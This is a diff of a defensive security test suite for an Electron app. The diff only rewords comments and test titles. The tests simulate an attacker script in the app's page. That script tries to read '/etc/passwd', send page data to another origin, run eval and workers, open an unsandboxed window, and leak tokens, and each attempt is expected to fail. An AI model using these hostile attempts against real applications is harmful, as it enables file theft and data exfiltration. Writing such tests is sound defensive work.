@@ -9,9 +9,9 @@ import { TestEnvironment } from './support/environment.ts'
 import { secretsOf } from './support/secrets.ts'
 import { welcomingServer } from './support/welcoming-server.ts'
 
-// The page's script is an attacker's here, who has all that the app's own script has: docs/security.md says what that is.
+// Here the page's script is an attacker with all rights of the app's own script. docs/security.md describes them.
 
-/** What channels do, by their first word, that change things, ask the broker by a dialog, or may answer with what is secret. */
+/** Channels, by their first word, that change things, ask the broker by a dialog, or may answer with a secret. */
 const CHANGING =
   'accept act add arrange attach back cancel change choose clear confirm continue copy create delete dismiss duplicate enter erase ' +
   'export forget import mend new nudge open pair pick print proven redo register remove replace reset resolve restart restore reveal save ' +
@@ -45,7 +45,7 @@ describe('a script of an attacker in the app’s own page', () => {
   const inPage = <T>(expression: string) => environmentManager.page.evaluate<T>(expression)
   const call = <T = { ok: boolean; error?: { code: string } }>(channel: string, input: unknown) =>
     inPage<T>(`fundingDesk.call(${JSON.stringify(channel)}, ${JSON.stringify(input)})`)
-  /** What becomes of an attempt, which is made by the page itself and not by the inspector, whom no policy binds. */
+  /** The result of an attempt. The page itself makes it, because no policy limits the inspector. */
   const attempt = (code: string) =>
     inPage<string>(`new Promise((done) => setTimeout(async () => {
       try { done(String(await (${code}))) } catch (error) { done(error.name) }
@@ -57,7 +57,7 @@ describe('a script of an attacker in the app’s own page', () => {
       names.map(() => 'undefined'),
     )
     expect(await inPage('Object.keys(fundingDesk).sort()')).toEqual(['call', 'on', 'registerFiles'])
-    // Nor does an event bring anything of Electron along.
+    // An event does not expose any Electron object either.
     await inPage(
       `void fundingDesk.on('screen.locked', (...given) => { window.heard = JSON.stringify(given) })`,
     )
@@ -125,7 +125,7 @@ describe('a script of an attacker in the app’s own page', () => {
       expect(await call(channel, input)).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } })
   })
 
-  it('no channel takes what is no question, nor dies of it', async () => {
+  it('every channel rejects malformed input and keeps working', async () => {
     const said = await inPage<string[]>(`(async () => {
       const cycle = {}
       cycle.self = cycle
@@ -144,7 +144,7 @@ describe('a script of an attacker in the app’s own page', () => {
     expect(await call('app.info', {})).toMatchObject({ ok: true })
   })
 
-  it('reads no file that the broker did not pick: neither by an id of its own nor by a file that a script made', async () => {
+  it('reads no file that the broker did not pick, neither by an invented id nor by a file made by a script', async () => {
     const [made] = await inPage<{ value: { file_id: string }[] }>(
       'fundingDesk.registerFiles([new File(["%PDF-1.7"], "/etc/passwd")])',
     ).then(({ value }) => value)
@@ -159,7 +159,7 @@ describe('a script of an attacker in the app’s own page', () => {
     }
   })
 
-  it('reaches no other origin, by whatever a page can ask with, though that would answer all it is asked', async () => {
+  it('reaches no other origin by any request of a page, though the server would answer all', async () => {
     const other = await welcomingServer(cleanup)
     const at = (way: string) => JSON.stringify(`${other.origin}/${way}?what-the-page-knows`)
     const by = (made: string) => `new Promise((yes, no) => {
@@ -178,7 +178,7 @@ describe('a script of an attacker in the app’s own page', () => {
         by(`new WebSocket(${at('socket').replace('http', 'ws')})`),
         by(`Object.assign(new Image(), { src: ${at('image')} })`),
         element('script', `{ src: ${at('script')} }`),
-        // Which the policy lets through, for the sake of the page's own styles.
+        // The policy allows this for the page's own styles.
         element('link', `{ nonce: ${nonce}, rel: 'stylesheet', href: ${at('style')} }`),
         element('video', `{ src: ${at('video')} }`),
         'fetch("file:///etc/passwd").then(({ status }) => status)',
@@ -212,7 +212,7 @@ describe('a script of an attacker in the app’s own page', () => {
   it('runs no script but the app’s: none of another place, inline, evaluated, in a worker or in a frame', async () => {
     expect(await attempt('new Function("return 1")()')).toBe('EvalError')
     expect(await attempt('eval("1")')).toBe('EvalError')
-    // Which the policy of a worker allows, and that of the page does not.
+    // The policy of a worker allows this; the page's does not.
     const empty = 'new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])'
     expect(await attempt(`WebAssembly.compile(${empty})`)).toBe('CompileError')
     const worker = await attempt(`new Promise((done) => {
@@ -254,7 +254,7 @@ describe('a script of an attacker in the app’s own page', () => {
 
   it('the window’s preferences are as they should be, in effect, and those of one that a link to a deal opens', async () => {
     const opened = environmentManager.app.application.waitForEvent('window')
-    // Whoever opens it gets no hold of it.
+    // The opener gets no reference to it.
     expect(await inPage(`window.open('#/deals/${deal_id}', '', 'nodeIntegration=yes,sandbox=no')`)).toBeNull()
     const second = await opened
     await second.locator('[data-path="company.legal_name"]').waitFor()
@@ -330,7 +330,7 @@ describe('a script of an attacker in the app’s own page', () => {
     await expect.poll(refused).toEqual([true, true])
   })
 
-  it('gets no permission but to write to the clipboard', async () => {
+  it('gets no permission except writing to the clipboard', async () => {
     const states = await inPage<Record<string, string>>(`Promise.all(${JSON.stringify(PERMISSIONS)}.map(
       (name) => navigator.permissions.query({ name }).then(({ state }) => [name, state], () => [name, 'unknown']),
     )).then(Object.fromEntries)`)
@@ -373,7 +373,7 @@ describe('a script of an attacker in the app’s own page', () => {
     for (const [kind, secret] of Object.entries(secrets)) expect(said.includes(secret), kind).toBe(false)
     expect(said).not.toContain('900123456')
     expect(said).not.toContain('900-12-3456')
-    // No token of the partner's either, whatever it is at the moment.
+    // Nor any current token of the partner.
     expect(said).not.toMatch(/eyJ[\w-]{10,}\.[\w-]{10,}\./)
   })
 
@@ -408,7 +408,7 @@ describe('a script of an attacker in the app’s own page', () => {
       const page = BrowserWindow.getAllWindows()[0]?.webContents
       if (page === undefined) throw new Error('There is no window.')
       const home = page.getURL()
-      // What leads back would be quicker than the question.
+      // Navigating back would be faster than the question.
       const leadBack = page.listeners('did-navigate')
       page.removeAllListeners('did-navigate')
       await page.loadURL('about:blank')
@@ -430,7 +430,7 @@ describe('a script of an attacker in the app’s own page', () => {
     expect(await inPage('typeof before')).toBe('undefined')
   })
 
-  it('an empty page, about which nobody is asked, has no calls, and the app’s own page comes back', async () => {
+  it("an empty page has no calls and asks nothing, and the app's own page comes back", async () => {
     await inPage('void window.open("about:blank")')
     expect(environmentManager.app.application.windows()).toHaveLength(1)
     await inPage('void (location.href = "about:blank")').catch(() => {})
